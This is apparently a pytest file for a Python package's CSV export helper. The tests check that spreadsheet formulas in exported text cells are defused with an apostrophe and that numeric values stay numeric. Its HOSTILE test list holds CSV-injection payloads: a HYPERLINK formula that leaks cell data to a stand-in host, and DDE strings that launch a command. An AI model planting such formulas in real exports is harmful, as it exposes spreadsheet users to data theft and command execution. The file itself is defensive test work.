"""Every CSV the project writes defuses spreadsheet formulas through one helper
(:mod:`zmd_analysis.access.csvout`), and numbers stay numbers."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from zmd_analysis.access.csvout import csv_text, safe_cell

PACKAGE = Path(__file__).resolve().parents[2] / "zmd_analysis"
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text
    (row,) = list(csv.reader(io.StringIO(csv_text([], [[text]]).split("\r\n", 1)[1])))
    assert row == ["'" + text]


@pytest.mark.parametrize("number", ["-1.1", "-2.9", "+3", "-0.5e3", "-.5", "12", "-7."])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number
    assert safe_cell(-1.1) == -1.1 and safe_cell(-3) == -3
    text = csv_text(["value"], [[number], [-2.6]])
    assert text == f"value\r\n{number}\r\n-2.6\r\n"


@pytest.mark.parametrize("text", ["工业投资", "", "a=b", "'=already", "- 3", "-", "--1", "1-4月"])
def test_other_text_is_left_alone_or_defused_only_at_its_start(text):
    expected = "'" + text if text.startswith(("-", "=")) else text
    assert safe_cell(text) == expected


def test_a_bom_and_line_ends_on_request():
    assert csv_text(["a"], [["b"]], bom=True, line_end="\n") == "\ufeffa\nb\n"


def _builds_a_csv_writer(path: Path) -> list[int]:
    """Lines of ``path`` that call csv.writer or csv.DictWriter (however imported)."""
    lines = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        names = ("writer", "DictWriter")
        attribute = (
            isinstance(node, ast.Attribute)
            and node.attr in names
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        )
        imported = (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and any(a.name in names for a in node.names)
        )
        if attribute or imported:
            lines.append(node.lineno)
    return lines


def test_no_module_but_the_helper_writes_csv():
    writers = {
        str(p.relative_to(PACKAGE)): lines
        for p in sorted(PACKAGE.rglob("*.py"))
        if (lines := _builds_a_csv_writer(p))
    }
    assert writers == {"access/csvout.py": writers.get("access/csvout.py", [])}
    assert writers["access/csvout.py"]


def test_verdicts_csv_defuses_a_hostile_label_and_keeps_negative_numbers():
    from zmd_analysis.publish.verdicts import columns
    from zmd_analysis.publish.verdicts import csv_text as verdicts_csv

    row = dict.fromkeys(columns(), "")
    row |= {
        "claim_id": "c1",
        "label_zh": HOSTILE[0],
        "title": HOSTILE[2],
        "label_en": HOSTILE[1],
        "printed": [],
        "computed": {},
        "independent_sources": [],
        "computed_value": -2.6,
        "computed_low": -2.65,
        "workings_en": HOSTILE[1],
    }
    text = verdicts_csv([row])
    assert text.startswith("\ufeff")
    (parsed,) = list(csv.DictReader(io.StringIO(text[1:])))
    assert parsed["label_zh"] == "'" + HOSTILE[0]
    assert parsed["title"] == "'" + HOSTILE[2]
    assert parsed["label_en"] == "'" + HOSTILE[1]
    assert parsed["workings_en"] == "'" + HOSTILE[1]
    assert parsed["recomputed"] == "-2.6" and parsed["low"] == "-2.65"
    for cell in parsed.values():
        assert not cell.startswith(("=", "@", "+", "\t", "\r")) or float(cell)


def test_download_csv_keeps_numbers_and_defuses_text():
    import pandas as pd

    from zmd_analysis.report.downloads import to_csv

    frame = pd.DataFrame({"label": ["=1+1", "-x", "ok"], "value": [-1.1, float("nan"), 2.0]})
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert rows == [["label", "value"], ["'=1+1", "-1.1"], ["'-x", ""], ["ok", "2.0"]]


def test_draft_rows_defuse_a_hostile_title(tmp_path):
    from zmd_analysis.publish import intake

    rows = {"sources": [{"source_id": "s1", "publisher": "@pub", "title": HOSTILE[0]}]}
    (path,) = intake.write_drafts(rows, tmp_path)
    back = intake.read_drafts(tmp_path)["sources"][0]
    assert back["title"] == "'" + HOSTILE[0] and back["publisher"] == "'@pub"
    assert path.read_text(encoding="utf-8").count("'=HYPERLINK") == 1
